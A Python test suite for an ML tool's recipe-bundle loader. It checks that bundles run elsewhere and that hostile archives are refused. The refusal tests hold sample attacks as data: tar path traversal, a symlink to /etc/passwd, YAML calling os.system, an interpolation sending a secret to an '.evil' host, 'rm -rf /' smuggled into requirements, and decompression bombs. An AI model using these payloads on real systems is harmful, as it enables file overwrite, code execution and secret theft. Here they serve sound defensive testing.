"""Recipe bundles: made in one directory, run in another; anything but plain data is refused."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import tarfile
from pathlib import Path

import pytest

from ftflow.bundle import open_bundle
from ftflow.config.paths import builtin_recipes_dir
from ftflow.errors import UserError
from ftflow.testing import run_ftflow
from ftflow.workspace import Workspace

# Only the data stage runs: the bundle's mechanics are what is tested here, not training.
FAST = ["recipe=smoke", "method=none", "eval=none", "export=none", "model.provider=none", "tokenize=none",
        "data.train=mydata/train.jsonl", "data.eval=mydata/eval.jsonl"]


def _project(root: Path) -> Path:
    """A user directory with its own data files, as a recipe author has."""
    (root / "mydata").mkdir(parents=True)
    for split in ("train", "eval"):
        shutil.copy(builtin_recipes_dir() / "datasets" / "smoke" / f"{split}.jsonl", root / "mydata")
    return root


def test_bundle_runs_in_a_fresh_directory_with_its_own_data(tmp_path: Path) -> None:
    author = _project(tmp_path / "author")
    bundle = tmp_path / "smoke.tar.gz"
    made = run_ftflow(author / ".ftflow", "bundle", *FAST, "-o", str(bundle), cwd=author)
    assert made.ok, made.stderr
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
    assert {"bundle.json", "lock.json", "requirements.txt"} <= set(names)
    assert sum(n.startswith("datasets/") for n in names) == 2

    elsewhere = tmp_path / "elsewhere"  # no mydata/ here: the run must read the bundled copies
    elsewhere.mkdir()
    result = run_ftflow(elsewhere / ".ftflow", "run", "--bundle", str(bundle), cwd=elsewhere)
    assert result.ok, result.stderr[-2000:]
    assert [s["name"] for s in result.manifest["stages"]] == ["data"]
    assert result.manifest["recipe"].startswith("smoke-bundle-")
    train = Path(result.stage("data")["artifact"]) / "train.jsonl"
    source_rows = (author / "mydata" / "train.jsonl").read_text().strip().splitlines()
    assert len(train.read_text().strip().splitlines()) == len(source_rows)
    assert run_ftflow(elsewhere / ".ftflow", "run", "--bundle", str(bundle), cwd=elsewhere).ran() == set()


def test_no_data_bundle_checks_the_local_files_against_its_lock(tmp_path: Path) -> None:
    author = _project(tmp_path / "author")
    bundle = tmp_path / "nodata.tar.gz"
    made = run_ftflow(author / ".ftflow", "bundle", *FAST, "--no-data", "-o", str(bundle), cwd=author)
    assert made.ok, made.stderr
    with tarfile.open(bundle) as tar:
        assert not any(n.startswith("datasets/") for n in tar.getnames())

    other = _project(tmp_path / "other")
    with open(other / "mydata" / "train.jsonl", "a") as handle:
        handle.write(json.dumps({"messages": [{"role": "user", "content": "hi"},
                                              {"role": "assistant", "content": "hello"}]}) + "\n")
    host_files = run_ftflow(other / ".ftflow", "run", "--bundle", str(bundle), cwd=other)
    assert host_files.returncode == 2 and "data.train=mydata/train.jsonl is a file outside the bundle" in \
        host_files.stderr and "--allow files" in host_files.stderr  # the recipient's own files: only if allowed
    refused = run_ftflow(other / ".ftflow", "run", "--bundle", str(bundle), "--allow", "files", cwd=other)
    assert refused.returncode == 2 and refused.manifest is None
    assert "differs from the bundle's lock" in refused.stderr and "data.train" in refused.stderr
    accepted = run_ftflow(other / ".ftflow", "run", "--bundle", str(bundle), "--allow-drift", "--allow=files",
                          cwd=other)
    assert accepted.ok, accepted.stderr[-2000:]
    assert "drift accepted: input data.train" in accepted.stdout


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            info.size = len(data) if info.isfile() else 0
            tar.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return path


def _file(name: str, data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def _special(name: str, kind: bytes, link: str = "") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info, b""


META = json.dumps({"ftflow_bundle": 1, "recipe": "r", "requirements": []}).encode()
RECIPE = b"# @package _global_\ndefaults:\n- override /model: null\nmodel: {provider: random-init}\n"


DIGEST_DIR = "datasets/0123456789abcdef"


@pytest.mark.parametrize(("bad", "message"), [
    (_file("../evil"), "member '../evil' points outside the bundle"),
    (_file("datasets/../../evil"), "member 'datasets/../../evil' points outside the bundle"),
    (_file("/etc/evil"), "member '/etc/evil' has an absolute path"),
    (_special("recipe/link.yaml", tarfile.SYMTYPE, "/etc/passwd"), "member 'recipe/link.yaml' is a link"),
    (_special("datasets/hard", tarfile.LNKTYPE, "bundle.json"), "member 'datasets/hard' is a link"),
    (_special(f"{DIGEST_DIR}/dev.jsonl", tarfile.CHRTYPE), "is a device"),
    (_special(f"{DIGEST_DIR}/fifo.jsonl", tarfile.FIFOTYPE), "is a device, pipe"),
    # members a bundle never holds: code, stray recipes, unknown names, data without a data suffix
    (_file(f"{DIGEST_DIR}/evil.py", b"import os"), "member 'datasets/0123456789abcdef/evil.py' is not something"),
    (_file("plugin.py", b"import os"), "member 'plugin.py' is not something a bundle holds"),
    (_file("recipe/other.yaml", b"a: 1\n"), "a bundle holds exactly its one recipe"),
    (_file("recipe/sub/r.yaml", b"a: 1\n"), "is not something a bundle holds"),
    (_file("datasets/train.jsonl", b"{}"), "is not something a bundle holds"),
    (_file(f"{DIGEST_DIR}/train.jsonl", b"{}\n"), "does not have the digest its folder names"),
    # recipe text: import keys, hydra, defaults that load options, interpolations
    (_file("recipe/r.yaml", b"model:\n  _target_: os.system\n"), "member 'recipe/r.yaml': key 'model._target_'"),
    (_file("lock.json", json.dumps({"config": {"a": [{"_partial_": True}]}}).encode()),
     "member 'lock.json': key 'config.a[0]._partial_'"),
    (_file("recipe/r.yaml", b"hydra: {searchpath: [file:///]}\n"), "may not configure hydra"),
    (_file("recipe/r.yaml", b"defaults: [{model: /etc/x}]\n"), "defaults entry"),
    (_file("recipe/r.yaml", b"rag: {store_url: 'http://${oc.env:SECRET}.evil'}\n"),
     "'rag.store_url' holds an unescaped '${'"),
    (_file("recipe/r.yaml", b"data: {train: '\\\\${oc.env:HOME}'}\n"), "'data.train' holds an unescaped"),
    (_file("recipe/r.yaml", b"'${oc.env:K}': 1\n"), "holds an unescaped"),
    (_file("recipe/r.yaml", b"a: [1\n"), "member 'recipe/r.yaml' is not valid YAML line 2"),
    (_file("recipe/r.yaml", b"a: &x [1, 2]\nb: [*x, *x, *x]\n"), "line 1: YAML anchors and aliases are not allowed"),
    (_file("recipe/r.yaml", b"a: !!python/object/apply:os.system [id]\n"), "is not valid YAML"),
    (_file("recipe/r.yaml", b"a: \xff\xfe\n"), "is not valid YAML"),
    # metadata that is not what ftflow writes
    (_file("lock.json", b'{"ftflow_lock": 1, "recipe": "r", "config": [1]}'),
     "member 'lock.json': lock key 'config' must be a mapping"),
    (_file("lock.json", b'{"ftflow_lock": 1, "rec'), "member 'lock.json' is not valid JSON"),
    (_file("lock.json", b"[" * 100_000 + b"]" * 100_000), "member 'lock.json' is not valid JSON"),
    (_file("bundle.json", b'{"ftflow_bundle": 1, "recipe": "r", "requirements": ["x; rm -rf /"]}'),
     "'requirements' must be a list of 'package==version' strings"),
])
def test_refuses_members_that_are_not_plain_data(tmp_path: Path, bad: tuple, message: str) -> None:
    members = [m for m in [_file("bundle.json", META), _file("recipe/r.yaml", RECIPE)] if m[0].name != bad[0].name]
    bundle = _tar(tmp_path / "evil.tar.gz", [*members, bad])
    workspace = Workspace(tmp_path / "home")
    with pytest.raises(UserError, match=message.replace("[", r"\[").replace("]", r"\]").replace("$", r"\$")) \
            as caught:
        open_bundle(str(bundle), workspace)
    assert "\n" not in str(caught.value)
    assert not (workspace.root / "bundles").exists()  # a refused bundle leaves nothing behind


def test_escaped_interpolation_is_plain_text(tmp_path: Path) -> None:
    recipe = RECIPE + b"description: 'costs \\${5}'\n"
    good = _tar(tmp_path / "good.tar.gz", [_file("bundle.json", META), _file("recipe/r.yaml", recipe)])
    root, _ = open_bundle(str(good), Workspace(tmp_path / "home"))
    assert (root / "recipe" / "r.yaml").read_bytes() == recipe


def _dir(name: str) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    return info, b""


@pytest.mark.parametrize(("extra", "message"), [
    ([_file("lock.json", b"{}"), _file("lock.json", b"{}")], "member 'lock.json' appears twice"),
    ([_dir("recipe"), _dir("recipe")], "member 'recipe' appears twice"),
    # a file and a directory of one name: the file is not a member a bundle holds
    ([_file(DIGEST_DIR, b"x"), _dir(DIGEST_DIR)], f"member '{DIGEST_DIR}' is not something a bundle holds"),
    ([_dir(DIGEST_DIR), _file(DIGEST_DIR, b"x")], f"member '{DIGEST_DIR}' is not something a bundle holds"),
])
def test_a_name_is_one_member(tmp_path: Path, extra: list, message: str) -> None:
    bundle = _tar(tmp_path / "dup.tar.gz", [_file("bundle.json", META), _file("recipe/r.yaml", RECIPE), *extra])
    with pytest.raises(UserError, match=message):
        open_bundle(str(bundle), Workspace(tmp_path / "home"))


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n


def test_a_408_kb_bundle_that_expands_to_401_mb_is_refused_while_streaming(tmp_path: Path) -> None:
    import resource

    size = 401 * 2**20
    path = tmp_path / "bomb.tar.gz"
    with tarfile.open(path, "w:gz", compresslevel=9) as tar:
        for info, data in (_file("bundle.json", META), _file("recipe/r.yaml", RECIPE)):
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo(f"{DIGEST_DIR}/train.jsonl")
        info.size = size
        tar.addfile(info, io.BufferedReader(_Zeros(size)))
    assert path.stat().st_size < 600_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    workspace = Workspace(tmp_path / "home")
    with pytest.raises(UserError, match="expands beyond 268435456 bytes"):  # refused from its header
        open_bundle(str(path), workspace)
    assert not (workspace.root / "bundles").exists()
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 64  # streamed: never held in memory


def test_a_stream_expanding_more_than_200_times_is_refused_within_the_budget(tmp_path: Path) -> None:
    size = 100 * 2**20
    path = tmp_path / "bomb.tar.gz"
    with tarfile.open(path, "w:gz", compresslevel=9) as tar:
        for info, data in (_file("bundle.json", META), _file("recipe/r.yaml", RECIPE)):
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo(f"{DIGEST_DIR}/train.jsonl")
        info.size = size
        tar.addfile(info, io.BufferedReader(_Zeros(size)))
    with pytest.raises(UserError, match="expands more than 200 times its compressed size"):
        open_bundle(str(path), Workspace(tmp_path / "home"))


def test_byte_budget_and_member_count(tmp_path: Path, monkeypatch) -> None:
    data = b"".join(json.dumps({"i": i}).encode() + b"\n" for i in range(60_000))  # ~660 KB, compresses <200x
    digest = hashlib.sha256(data).hexdigest()[:16]
    members = [_file("bundle.json", META), _file("recipe/r.yaml", RECIPE), _file(f"datasets/{digest}/t.jsonl", data)]
    bundle = _tar(tmp_path / "big.tar.gz", members)
    monkeypatch.setenv("FTFLOW_BUNDLE_MAX_BYTES", "500000")
    with pytest.raises(UserError, match=r"expands beyond 500000 bytes \(FTFLOW_BUNDLE_MAX_BYTES"):
        open_bundle(str(bundle), Workspace(tmp_path / "home"))
    monkeypatch.delenv("FTFLOW_BUNDLE_MAX_BYTES")
    open_bundle(str(bundle), Workspace(tmp_path / "home"))
    monkeypatch.setenv("FTFLOW_BUNDLE_MAX_MEMBERS", "2")
    with pytest.raises(UserError, match="more than 2 members"):
        open_bundle(str(bundle), Workspace(tmp_path / "home2"))


def test_a_valid_archive_extracts_once_and_the_cli_names_a_bad_member(tmp_path: Path) -> None:
    good = _tar(tmp_path / "good.tar.gz", [_file("bundle.json", META), _file("recipe/r.yaml", RECIPE)])
    workspace = Workspace(tmp_path / "home")
    root, meta = open_bundle(str(good), workspace)
    assert meta["recipe"] == "r" and (root / "recipe" / "r.yaml").read_bytes() == RECIPE
    assert open_bundle(str(good), workspace)[0] == root

    evil = _tar(tmp_path / "evil.tar.gz", [_file("bundle.json", META), _file("recipe/r.yaml", RECIPE),
                                           _file("../../outside.txt")])
    result = run_ftflow(tmp_path / "home", "run", "--bundle", str(evil))
    assert result.returncode == 2
    assert result.stderr.strip().count("\n") == 0 and "'../../outside.txt'" in result.stderr
    assert not (tmp_path.parent / "outside.txt").exists()


def test_refuses_a_bundle_without_its_recipe_and_a_non_archive(tmp_path: Path) -> None:
    no_recipe = _tar(tmp_path / "a.tar.gz", [_file("bundle.json", META)])
    with pytest.raises(UserError, match="names recipe 'r', but the bundle holds no recipe"):
        open_bundle(str(no_recipe), Workspace(tmp_path / "home"))
    text = tmp_path / "b.tar.gz"
    text.write_text("not an archive")
    with pytest.raises(UserError, match="not a readable bundle archive"):
        open_bundle(str(text), Workspace(tmp_path / "home"))


def test_missing_plugin_packages_are_named_with_the_install_command(tmp_path: Path, monkeypatch) -> None:
    from ftflow.bundle import bundle_session

    meta = json.dumps({"ftflow_bundle": 1, "recipe": "r", "requirements": ["ftflow-no-such-plugin==1.2"]})
    bundle = _tar(tmp_path / "p.tar.gz", [_file("bundle.json", meta.encode()), _file("recipe/r.yaml", RECIPE)])
    monkeypatch.setenv("FTFLOW_HOME", str(tmp_path / "home"))
    with pytest.raises(UserError, match=r"not installed: ftflow-no-such-plugin==1\.2 \(pip install"):
        bundle_session(str(bundle), [], [], allow_drift=False)
